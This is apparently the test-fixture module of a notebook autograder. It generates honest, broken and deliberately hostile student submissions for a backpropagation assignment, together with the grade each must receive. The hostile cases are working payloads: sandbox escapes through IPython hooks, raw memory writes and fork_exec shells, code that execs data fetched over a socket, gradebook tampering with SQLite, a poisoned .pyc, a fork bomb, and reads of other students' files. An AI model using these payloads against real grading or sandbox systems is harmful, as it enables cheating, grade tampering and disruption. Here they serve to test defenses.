"""Submissions for the grading tests, generated from the released notebook of 01_backprop.

``answered()`` is the release with the solutions' answers pasted in (a perfect submission);
``hostile()`` derives broken, old, edited, crashing, greedy and cheating submissions from it, every
attack of issue 14 among them, and honest submissions written with unusual but ordinary Python,
each with the score and status it must get and a phrase its reason must contain.
"""
import copy
import importlib.util
import json
import os
import uuid
from dataclasses import dataclass, field

import nbformat

from autograder import course

ASSIGNMENT = "01_backprop"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
FULL = 26.0
POINTS = {"test_sigmoid": 1, "test_sigmoid_grad": 1, "test_tanh": 1, "test_tanh_grad": 1, "test_relu": 1,
          "test_relu_grad": 1, "test_softplus": 2, "test_softplus_grad": 1, "test_affine_forward": 2,
          "test_affine_backward": 3, "test_softmax_cross_entropy": 3, "test_two_layer_net_forward": 2,
          "test_two_layer_net_gradients": 2, "test_leaky_relu": 1, "test_leaky_relu_grad": 1,
          "test_clip_grad_norm": 2, "test_clip_grad_norm_unclipped": 1}
BROKEN_RELU_GRAD = ("return (np.asarray(x, dtype=np.float64) > 0).astype(np.float64)",
                    "return (np.asarray(x, dtype=np.float64) < 0).astype(np.float64)")
ESCAPE = f"/tmp/autograder-escape-{uuid.uuid4().hex}.txt"
ROOT = os.geteuid() == 0  # a root grader puts the decoys on a tmpfs where writes are found; else they are read-only
TRIPPED = "tried to read the answer key, the solutions, the gradebook or other students' files"
NETWORK = "tried to reach the network, which the sandbox does not have: the kernel counted"
LOG_TAMPERED = "a file descriptor it inherited, a decoy of the grader's log"
PLANTED = "tried to write into the toolkit, the course or the grading folder" if ROOT else "Read-only file system"


@dataclass
class Case:
    """A submission and what grading must make of it."""

    data: bytes
    score: float
    status: str  # "ok", "flagged" or "failed"
    reason: str = ""  # a phrase the reason column must contain ("" when there must be no reason)
    files: dict = field(default_factory=dict)  # other files of the submission (then written in nbgrader's layout)
    skip: str = ""  # why this case cannot run here (its test is skipped with that message)


def grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def release():
    return nbformat.read(str(course.EXERCISES / ASSIGNMENT / NOTEBOOK), as_version=4)


def answered():
    """The release with every answer cell replaced by the solution's."""
    solution = nbformat.read(str(course.SOLUTIONS / ASSIGNMENT / NOTEBOOK), as_version=4)
    answers = {grade_id(c): c.source for c in solution.cells if c.metadata.get("nbgrader", {}).get("solution")}
    nb = release()
    for cell in nb.cells:
        if grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]
    return nb


def dump(nb):
    return nbformat.writes(nb).encode()


def _cell(nb, gid):
    (cell,) = [c for c in nb.cells if grade_id(c) == gid]
    return cell


def _edit(gid, change):
    """The perfect submission with answer or test cell gid's source passed through change."""
    nb = answered()
    cell = _cell(nb, gid)
    cell.source = change(cell.source)
    return nb


def _append(gid, code):
    return _edit(gid, lambda src: src + "\n\n" + code)


def _broken_relu_grad(extra=""):
    return _edit("relu", lambda src: src.replace(*BROKEN_RELU_GRAD) + ("\n\n" + extra if extra else ""))


def _without(gid):
    nb = answered()
    nb.cells = [c for c in nb.cells if grade_id(c) != gid]
    return nb


def _duplicated():
    nb = answered()
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if grade_id(cell) in ("tanh", "test_tanh"):
            twin = copy.deepcopy(cell)
            twin.id = f"{cell.id}-copy"
            cells.append(twin)
    nb.cells = cells
    return nb


def _reordered():
    nb = answered()
    i = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "sigmoid")
    nb.cells[i], nb.cells[i + 1] = nb.cells[i + 1], nb.cells[i]
    return nb


def _stripped():
    nb = answered()
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def _nbformat3():
    return json.dumps(nbformat.convert(answered(), 3)).encode()


COPY_REFERENCE = {
    "sigmoid": '''
from autograder.reference import activations as A

def sigmoid(x):
    return A.sigmoid(x)

def sigmoid_grad(x):
    import importlib
    return importlib.import_module("autograder.reference.activations").sigmoid_grad(x)
''',
    "tanh": '''
def tanh(x):
    import autograder.reference.activations as acts
    return acts.tanh(x)

def tanh_grad(x):
    import pathlib, nnlab
    source = (pathlib.Path(nnlab.__file__).parents[1] / "autograder" / "reference" / "activations.py").read_text()
    namespace = {}
    exec(source, namespace)
    return namespace["tanh_grad"](x)
''',
    "relu": '''
import sys

def relu(x):
    return sys._getframe(1).f_locals["want"]

def relu_grad(x):
    from autograder.reference.activations import relu_grad as reference
    return reference(x)
''',
    "softplus": '''
def softplus(x):
    modules = [m for name, m in list(sys.modules.items()) if "reference" in name]
    return modules[-1].softplus(x)

def softplus_grad(x):
    return [v for v in globals().values() if getattr(v, "__name__", "") == "autograder.reference.activations"][0].softplus_grad(x)
''',
    "affine": '''
from autograder.reference import layers as L

def affine_forward(x, w, b):
    return L.affine_forward(x, w, b)

def affine_backward(dout, cache):
    return L.affine_backward(dout, cache)
''',
    "softmax": '''
def softmax_cross_entropy(scores, y):
    try:
        raise RuntimeError
    except RuntimeError as err:
        frame = err.__traceback__.tb_frame.f_back
    return frame.f_locals["want"]
''',
    "leaky_relu": '''
def leaky_relu(x, negative_slope=0.01):
    from autograder.reference.activations import leaky_relu as reference
    return reference(x, negative_slope)

def leaky_relu_grad(x, negative_slope=0.01):
    import importlib
    return importlib.import_module("autograder.reference.activations").leaky_relu_grad(x, negative_slope)
''',
    "clip_grad_norm": '''
def clip_grad_norm(grads, max_norm):
    from autograder.reference.layers import clip_grad_norm as reference
    return reference(grads, max_norm)
''',
    "two_layer_net": '''
def two_layer_net(X, params, y=None):
    import gc
    grads = [o for o in gc.get_objects() if callable(o) and getattr(o, "__name__", "") == "two_layer_net"]
    return grads[0](X, params, y)
''',
}


def _copies_reference():
    nb = answered()
    for gid, source in COPY_REFERENCE.items():
        _cell(nb, gid).source = source.strip()
    return nb



# What the escapes of issue 14 ran once they got past the in-process guard: the answers from the answer
# key. In the sandbox the answer key does not exist, so each attack below still runs, and earns nothing.
TAKE_ANSWERS = ("from autograder.reference.activations import *\\n"
                "from autograder.reference.layers import *\\n"
                "from autograder.reference.mlp import *\\n")
REFERENCE_DIR = str(course.HERE / "reference")

ESCAPES = {
    # an IPython hook runs code before every later cell, instructor cells included
    "hook-pre-execute": f'''
import functools
get_ipython().events.register("pre_execute", functools.partial(exec, "{TAKE_ANSWERS}", globals()))
''',
    # a finalizer runs when the bait is freed (the old guard freed it from a trusted frame)
    "weakref-finalize": f'''
import weakref
class Bait:
    pass
bait = Bait()
weakref.finalize(bait, exec, "{TAKE_ANSWERS}", globals())
check_close = bait
del bait
''',
    # code compiled under NumPy's file name, loaded from bytecode
    "marshal-bytecode": f'''
import importlib._bootstrap_external as bootstrap, marshal, numpy
code = compile("{TAKE_ANSWERS}", numpy.__file__, "exec")
exec(bootstrap._compile_bytecode(marshal.dumps(code), bytecode_path=numpy.__file__), globals())
''',
    # raw memory through __array_interface__: a write into an immutable bytes object, then the answers
    "raw-memory": f'''
import numpy as np, sys
frozen = b"immutable bytes!"
class Raw:
    __array_interface__ = {{"data": (id(frozen) + sys.getsizeof(frozen) - len(frozen) - 1, False),
                           "shape": (len(frozen),), "typestr": "|u1", "version": 3}}
np.asarray(Raw())[:] = ord("X")
assert frozen == b"X" * 16, frozen  # arbitrary memory is writable: the process is the student's own
exec("{TAKE_ANSWERS}", globals())
''',
    # a thread started through the alias the old guard did not wrap
    "thread-start-new": f'''
import _thread, time
_thread.start_new(exec, ("{TAKE_ANSWERS}", globals()))
time.sleep(1)
''',
    # the answer key read through a directory fd (the old guard checked the name relative to the fd)
    "dir-fd": f'''
import os
fd = os.open({REFERENCE_DIR!r}, os.O_RDONLY)
namespace = {{}}
for name in ("activations.py", "layers.py", "mlp.py"):
    source = os.read(os.open(name, os.O_RDONLY, dir_fd=fd), 1 << 20).decode()
    exec(source, namespace)
globals().update(namespace)
''',
    # the answer key read into readline's history
    "readline-history": f'''
import readline
readline.read_history_file({REFERENCE_DIR + "/activations.py"!r})
exec("\\n".join(readline.get_history_item(i) for i in range(1, readline.get_current_history_length() + 1)))
''',
    # the answer key's functions looked for among the live objects (the old grader lent them to student code)
    # and used in place of the answers
    "borrows-reference": '''
import gc
lent = {f.__name__: f for f in gc.get_objects() if callable(f) and
        str(getattr(f, "__module__", "")).startswith("autograder")}
if not lent:
    raise LookupError("no function of the answer key in this process")
globals().update(lent)
''',
    # the answers fetched from the network: a course server, a Jupyter server on the grader's machine, a name
    "connects-out": '''
import socket
for address in [("140.82.112.3", 443), ("127.0.0.1", 8888), ("::1", 5432)]:
    try:
        exec(socket.create_connection(address, timeout=2).recv(1 << 20).decode(), globals())
    except OSError:
        pass
try:
    socket.getaddrinfo("answers.example.org", 443)
except OSError:
    pass
''',
}


def _fork_exec_shell(script):
    """Python that runs /bin/sh -c script through _posixsubprocess.fork_exec (no audit event) and prints its output."""
    return f'''
import _posixsubprocess, os
read_end, write_end = os.pipe()
err_read, err_write = os.pipe()
pid = _posixsubprocess.fork_exec([b"/bin/sh", b"-c", {script.encode()!r}], [b"/bin/sh"], True, (write_end,), None,
                                 None, -1, -1, -1, write_end, -1, write_end, err_read, err_write, True, False, -1,
                                 None, None, None, -1, None, False)
os.close(write_end)
os.close(err_write)
os.waitpid(pid, 0)
print(os.read(read_end, 1 << 16).decode())
'''


def escaped(name, grading):
    """The release (no answers) with one escape appended to its first answer cell."""
    return _release_with(ESCAPES[name] if name in ESCAPES else HARM[name](grading))


def _release_with(code):
    nb = release()
    cell = _cell(nb, "sigmoid")
    cell.source += "\n\n" + code.strip()
    return nb


HARM = {
    # change other students' grades in the gradebook
    "sqlite-gradebook": lambda grading: f'''
import sqlite3
db = sqlite3.connect({str(grading / "gradebook.db")!r})
db.execute("UPDATE grade SET manual_score = 0")
db.execute("UPDATE grade SET manual_score = 26 WHERE notebook_id IN (SELECT id FROM submitted_notebook)")
db.commit()
''',
    # a .pyc for the toolkit that the next batch would run
    "pyc-in-toolkit": lambda grading: f'''
import importlib.util, marshal, os, nnlab.checks
source = nnlab.checks.__file__
code = compile("def check_close(*args, **kwargs):\\n    pass\\n", source, "exec")
stat = os.stat(source)
header = importlib.util.MAGIC_NUMBER + b"\\0\\0\\0\\0" + int(stat.st_mtime).to_bytes(4, "little") + \\
    (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
for folder in (os.path.dirname(source), {str(course.REPO / "nnlab")!r}):
    os.makedirs(os.path.join(folder, "__pycache__"), exist_ok=True)
    with open(importlib.util.cache_from_source(os.path.join(folder, "checks.py")), "wb") as f:
        f.write(header + marshal.dumps(code))
''',
    # another student's notebook, by a name the attacker knows
    "reads-others": lambda grading: f'''
print(open({str(grading / "submitted" / "good" / ASSIGNMENT / NOTEBOOK)!r}).read()[:100])
''',
    # other students' notebooks, found by listing the grading folder
    "lists-others": lambda grading: f'''
import glob
for path in glob.glob({str(grading / "submitted" / "*" / ASSIGNMENT / "*.ipynb")!r}):
    print(open(path).read()[:100])
''',
}

# Honest code that the in-process guard refused or broke: each must earn every point, with no note.
HONEST = {
    "future-annotations": ("sigmoid", lambda src: "from __future__ import annotations\n\n" + src.replace(
        "def sigmoid(x):", "def sigmoid(x: np.ndarray) -> np.ndarray:")),
    "namedtuple": ("affine", lambda src: "import collections\n\nShapes = collections.namedtuple('Shapes', 'n d m')\n"
                   "Shapes(1, 2, 3)\n\n" + src),
    "typevar": ("relu", lambda src: "import typing\n\nArray = typing.TypeVar('Array')\n\n" + src.replace(
        "def relu(x):", "def relu(x: Array) -> Array:")),
    "pyplot-and-digits": ("tanh", lambda src: src + "\n\nimport matplotlib.pyplot as plt\n"
                          "from sklearn.datasets import load_digits\n"
                          "digits = load_digits()\nplt.imshow(digits.images[0], cmap='gray')\nplt.show()"),
    "stderr-debug": ("softplus", lambda src: "import sys\nprint('debug: defining softplus', file=sys.stderr)\n\n"
                     + src.replace("def softplus_grad(x):", "def softplus_grad(x):\n    print('debug', x.shape, file=sys.stderr)"
                                   , 1)),
}


def _honest(name):
    gid, change = HONEST[name]
    return _edit(gid, change)


def _scipy_expit():
    return _edit("sigmoid", lambda src: src + "\n\nfrom scipy.special import expit\n\ndef sigmoid(x):\n"
                 "    return expit(np.asarray(x, dtype=np.float64))")


def _helper_module():
    """The sigmoid answers imported from a helpers.py the student put next to the notebook."""
    solution = _cell(answered(), "sigmoid").source
    nb = answered()
    _cell(nb, "sigmoid").source = "from helpers import sigmoid, sigmoid_grad"
    return nb, {"helpers.py": "import numpy as np\n\n" + solution}


def _list_grade_id():
    nb = answered()
    meta = _cell(nb, "tanh").metadata.nbgrader
    meta["grade_id"] = ["tanh"]
    return nb


def _split_answer(keep_metadata):
    """An answer split in two cells, as JupyterLab's split-cell does (both halves keep the metadata) or as
    Colab leaves it (metadata stripped from every cell, ids renumbered)."""
    nb = answered()
    cells = []
    for cell in nb.cells:
        if grade_id(cell) == "sigmoid":
            first, second = cell.source.split("\ndef sigmoid_grad", 1)
            cells += [cell, copy.deepcopy(cell)]
            cells[-2].source, cells[-1].source = first, "def sigmoid_grad" + second
            cells[-1].id = f"{cell.id}-split"
        else:
            cells.append(cell)
    nb.cells = cells
    if not keep_metadata:
        _strip_and_renumber(nb)
    return nb


def _merged_answers(keep_metadata):
    """Two answers merged into one cell (Notebook 7, VS Code): the merged cell keeps the first one's metadata,
    or none at all."""
    nb = answered()
    tanh = _cell(nb, "tanh")
    relu = _cell(nb, "relu")
    tanh.source += "\n\n" + relu.source
    nb.cells = [c for c in nb.cells if c is not relu]
    if not keep_metadata:
        _strip_and_renumber(nb)
    return nb


def _strip_and_renumber(nb):
    for k, cell in enumerate(nb.cells):
        cell.metadata.pop("nbgrader", None)
        cell.id = f"cell-{k}"


def _sleepy(cells, seconds):
    nb = answered()
    nb.cells += [nbformat.v4.new_code_cell(f"import time\ntime.sleep({seconds})") for _ in range(cells)]
    return nb


def _loud(cells):
    nb = answered()
    nb.cells += [nbformat.v4.new_code_cell("print('x' * 1_000_000)") for _ in range(cells)]
    return nb


def _cgroup_here():
    from autograder.sandbox.cgroup import Cgroup, CgroupUnavailable
    try:
        Cgroup.create(1 << 30, 64).remove()
        return True
    except CgroupUnavailable:
        return False


# Children each under the per-process memory limit (RLIMIT_AS: the grader's 2048 MB) that together hold
# three times the sandbox's memory; and a fork bomb, bounded so that it stops where a real one would loop.
MEMORY_SWARM = """
import subprocess, sys
grab = "import time; hog = bytearray(1800 * 1024 ** 2); time.sleep(3)"
print(sorted(p.wait() for p in [subprocess.Popen([sys.executable, "-c", grab]) for _ in range(3)]))
"""
FORK_BOMB = """
import os, time
children = []
for attempt in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""


def hostile(grading, cell_seconds, notebook_seconds):
    """{student id: Case}: the broken and hostile submissions, and good ones that must be unaffected.

    grading: the grading folder of the batch (the attacks on the gradebook aim at it).
    cell_seconds, notebook_seconds: the batch's --timeout and --notebook-timeout.
    """
    patch_numpy = ("np.allclose = lambda *a, **k: True\n"
                   "np.isclose = lambda a, b, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)")
    patch_checks = ("import nnlab.checks\nnnlab.checks.check_close = lambda *a, **k: None\n"
                    "check_close = check_against = check_gradient = lambda *a, **k: None")
    patch_collect = ("import nnlab.collect\n"
                     "nnlab.collect._send = lambda message: None")
    patch_during = BROKEN_RELU_GRAD[1].replace(
        "return", "np.isclose = lambda a, b, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)"
        "\n    return")
    before_softmax = sum(POINTS[t] for t in list(POINTS)[:list(POINTS).index("test_softmax_cross_entropy")])
    relu_grad_tests = POINTS["test_relu_grad"]  # the network's cells are judged with stand-ins for relu_grad too
    from_relu = sum(POINTS[t] for t in list(POINTS)[list(POINTS).index("test_relu"):])
    tanh_tests = POINTS["test_tanh"] + POINTS["test_tanh_grad"]
    helper, helper_files = _helper_module()
    scipy_missing = "" if importlib.util.find_spec("scipy") else "scipy is not installed here"
    no_cgroup = "" if _cgroup_here() else "no control group per sandbox here: the attack would use the host's memory"
    cases = {
        "good": Case(dump(answered()), FULL, "ok"),
        "jane doe": Case(dump(answered()), FULL, "ok"),
        "Zoë Ångström": Case(dump(answered()), FULL, "ok"),
        "untouched": Case(dump(release()), 0.0, "ok"),
        "friend": Case(dump(release()), 0.0, "ok"),  # the sqlite attack would have given them full marks
        "invalid-json": Case(b'{"cells": [', 0.0, "failed", "not valid JSON"),
        "empty": Case(b"", 0.0, "failed", "empty"),
        "nbformat3": Case(_nbformat3(), FULL, "flagged", "nbformat 3"),
        # relu and relu_grad missing cost their own cells; the network's cells pass on the stand-ins
        "answer-deleted": Case(dump(_without("relu")), FULL - 2, "flagged", "answer cell(s) missing"),
        "test-deleted": Case(dump(_without("test_sigmoid")), FULL, "flagged", "restored from the assignment"),
        "duplicated": Case(dump(_duplicated()), FULL, "flagged", "appears 2 times"),
        "reordered": Case(dump(_reordered()), FULL, "flagged", "graded in the assignment's order"),
        "metadata-stripped": Case(dump(_stripped()), FULL, "flagged", "lost their nbgrader metadata"),
        "edited-test": Case(dump(_edit("test_softplus", lambda src: "pass")), FULL, "flagged", "edited"),
        # editors that split, merge, renumber and strip cells: a release stub never overrides an answer
        "split-kept-metadata": Case(dump(_split_answer(True)), FULL, "flagged", "appears 2 times"),
        "split-colab": Case(dump(_split_answer(False)), FULL, "flagged", "lost their nbgrader metadata"),
        "merged-kept-metadata": Case(dump(_merged_answers(True)), FULL, "flagged", "answered in the cell of tanh"),
        "merged-stripped": Case(dump(_merged_answers(False)), FULL, "flagged", "lost their nbgrader metadata"),
        # crashes and greed: each costs the cells it blocks, and says why
        "infinite-loop": Case(dump(_append("tanh", "while True:\n    pass")), FULL, "flagged",
                              f"ran longer than {cell_seconds:g} s"),
        "loop-before-answer": Case(dump(_edit("tanh", lambda src: "while True:\n    pass\n\n" + src)),
                                   FULL - tanh_tests, "flagged", f"ran longer than {cell_seconds:g} s"),
        "kernel-exit": Case(dump(_append("softmax", "import os\nos._exit(3)")), before_softmax, "flagged",
                            "exited (code 3)"),
        "segfault": Case(dump(_append("softmax", "import faulthandler\nfaulthandler._sigsegv()")), before_softmax,
                         "flagged", "segmentation fault"),
        "ctypes-segfault": Case(dump(_append("softmax", "import ctypes\nctypes.string_at(0)")), before_softmax,
                                "flagged", "segmentation fault"),
        "kills-its-tree": Case(dump(_append("softmax", "import os, signal\nos.killpg(0, signal.SIGKILL)")),
                               before_softmax, "flagged", "crashed"),
        "kills-its-worker": Case(dump(_append("softmax", _fork_exec_shell("kill -9 $PPID 1 -1; sleep 5"))),
                                 before_softmax, "flagged", "crashed"),
        "memory-hog": Case(dump(_append("affine", "hog = bytearray(16 * 1024 ** 3)")), FULL, "flagged",
                           "MemoryError"),
        "huge-output": Case(dump(_append("sigmoid", "print('x' * 5_000_000)")), FULL, "flagged", "was cut"),
        "huge-output-many-cells": Case(dump(_loud(60)), FULL, "flagged", "printed more than"),
        "sleepy-cells": Case(dump(_sleepy(25, cell_seconds - 0.5)), FULL, "flagged",
                             f"longer than {notebook_seconds:g} s in total"),
        "writes-outside": Case(dump(_append("sigmoid", f"open('inside.txt', 'w').write('fine')\n"
                                                       f"open({ESCAPE!r}, 'w').write('private /tmp')\n"
                                                       f"open('/toolkit/nnlab/planted.py', 'w')")),
                               FULL, "flagged", PLANTED),
        "memory-swarm": Case(dump(_append("sigmoid", MEMORY_SWARM)), FULL, "flagged", "out of memory: the kernel killed",
                             skip=no_cgroup),
        "fork-bomb": Case(dump(_append("sigmoid", FORK_BOMB)), FULL, "flagged", "process limit reached", skip=no_cgroup),
        "fake-terminal-lines": Case(dump(_append("sigmoid", "import os\nos.write(2, b'graded: 40 ok\\n')\n"
                                                            "os.write(1, b'graded: 40 ok\\n')")),
                                    FULL, "flagged", "wrote outside its cells"),
        "truncates-fds": Case(dump(_broken_relu_grad("import os\nfor fd in range(3, 64):\n    try:\n"
                                                     "        os.ftruncate(fd, 0)\n    except OSError:\n"
                                                     "        pass")), FULL - relu_grad_tests, "flagged",
                              "truncated " + LOG_TAMPERED),
        "fork-exec-shell": Case(dump(_append("sigmoid", _fork_exec_shell(
            f"id -u; touch {course.REPO}/nnlab/planted.py /toolkit/nnlab/planted.py 2>&1"))), FULL,
            "flagged" if ROOT else "ok", PLANTED if ROOT else ""),
        "leaks-hidden-tests": Case(dump(_append("sigmoid", LEAK_HIDDEN)), FULL, "ok"),
        # tampering with what runs in the sandbox: the judge outside decides
        "patches-numpy": Case(dump(_broken_relu_grad(patch_numpy)), FULL - relu_grad_tests, "ok"),
        "patches-checks": Case(dump(_broken_relu_grad(patch_checks)), FULL - relu_grad_tests, "ok"),
        "patches-collect": Case(dump(_append("sigmoid", patch_collect)), 0.0, "flagged", "did not run"),
        "patches-during-test": Case(dump(_edit("relu", lambda src: src.replace(BROKEN_RELU_GRAD[0], patch_during))),
                                    FULL - relu_grad_tests, "ok"),
        "copies-reference": Case(dump(_copies_reference()), 0.0, "flagged", TRIPPED),
        "rewrites-tests": Case(dump(_broken_relu_grad(REWRITE_TESTS)), FULL - from_relu, "flagged", "did not run"),
        "threads-and-signals": Case(dump(_append("sigmoid", THREADS_AND_SIGNALS)), FULL, "ok"),
        "own-loopback-server": Case(dump(_append("sigmoid", OWN_SERVER)), FULL, "ok"),
        # honest code
        **{name: Case(dump(_honest(name)), FULL, "ok") for name in HONEST},
        "scipy-expit": Case(dump(_scipy_expit()), FULL, "ok", skip=scipy_missing),
        "helper-module": Case(dump(helper), FULL, "ok", files=helper_files),
        "list-grade-id": Case(dump(_list_grade_id()), FULL, "flagged", "recognised by content: tanh"),
    }
    # the finalizer runs when the process exits, after the last cell: what it prints is noted
    # each reason below is evidence the grader gathers outside the sandbox (autograder.sandbox.tripwire,
    # .network), except one that touches no boundary: another student's notebook opened by a path that does
    # not exist in the sandbox (the decoys must not reveal other students' names), noted from the error
    reasons = {**dict.fromkeys(("hook-pre-execute", "weakref-finalize", "marshal-bytecode", "raw-memory",
                                "thread-start-new", "dir-fd", "readline-history", "sqlite-gradebook",
                                "borrows-reference", "lists-others"), TRIPPED),
               "pyc-in-toolkit": PLANTED, "connects-out": NETWORK, "reads-others": "No such file or directory"}
    for name, reason in reasons.items():
        cases[name] = Case(dump(escaped(name, grading)), 0.0, "flagged" if reason else "ok", reason)
    return cases


def case_ids():
    """The test ids of the cases: the student id, and why it is skipped when it cannot run here."""
    return [name + (f" (skipped: {case.skip})" if case.skip else "")
            for name, case in hostile(course.REPO / "grading", 5, 30).items()]


# After this cell, IPython runs every cell as `pass` and reports no error, instructor cells included:
# their hidden checks never run, so their tests earn nothing, and the grader says so.
REWRITE_TESTS = """
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
"""

THREADS_AND_SIGNALS = """
import signal
import threading
worker = threading.Thread(target=print, args=("a thread ran",))
worker.start()
worker.join()
signal.signal(signal.SIGUSR1, lambda *args: None)
"""

# A server of the notebook's own on loopback and a client of its own: no network leaves the sandbox
OWN_SERVER = """
import socket, threading
server = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=lambda: server.accept()[0].sendall(b"hello"), daemon=True).start()
print(socket.create_connection(server.getsockname()).recv(5))
"""

# Everything of the instructor's cells the process holds: IPython's input history, linecache, the
# runner's own job file and the frames above the cell.
LEAK_HIDDEN = """
import json, linecache, sys
print([s for s in In if "BEGIN HIDDEN" in s])
print([s for s in _ih if "BEGIN HIDDEN" in s])
print(["".join(linecache.getlines(f)) for f in list(linecache.cache) if "BEGIN HIDDEN" in "".join(linecache.getlines(f))])
print(open("/grader/job.json").read())
frame = sys._getframe()
while frame is not None:
    print({k: str(v)[:100000] for k, v in frame.f_locals.items() if "job" in k or "cell" in k})
    frame = frame.f_back
"""
